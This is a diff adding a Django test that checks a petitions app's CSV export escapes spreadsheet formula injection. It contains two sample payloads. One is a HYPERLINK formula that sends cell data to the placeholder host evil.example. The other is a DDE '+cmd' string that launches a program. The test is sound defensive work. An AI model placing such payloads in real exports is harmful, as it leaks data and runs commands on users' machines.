@@ -1,5 +1,8 @@
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 
@@ -138,3 +141,18 @@ def test_the_dashboard_card_counts_overdue_and_due_soon_in_scope(alice, make_dat
     services.submit_petition(actor=None, channel="web", data=make_data())
     page = client_for(alice).get("/dashboard/").content.decode()
     assert 'data-testid="petitions-card"' in page
+
+
+def test_the_csv_export_neutralises_a_title_and_a_sender_that_a_spreadsheet_would_run_as_formulas(
+    make_data, alice, carol
+):
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Xem chi tiết")'
+    sender = "+cmd|' /C calc'!A0"
+    p = services.submit_petition(
+        actor=alice, channel="desk", data=make_data(title=title, petitioner_name=sender)
+    )
+    export = b"".join(client_for(carol).get("/petitions/xuat.csv").streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(export)))
+    row = next(r for r in rows if r[0] == p.tracking_code)
+    assert row[7] == "'" + title and row[8] == "'" + sender
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
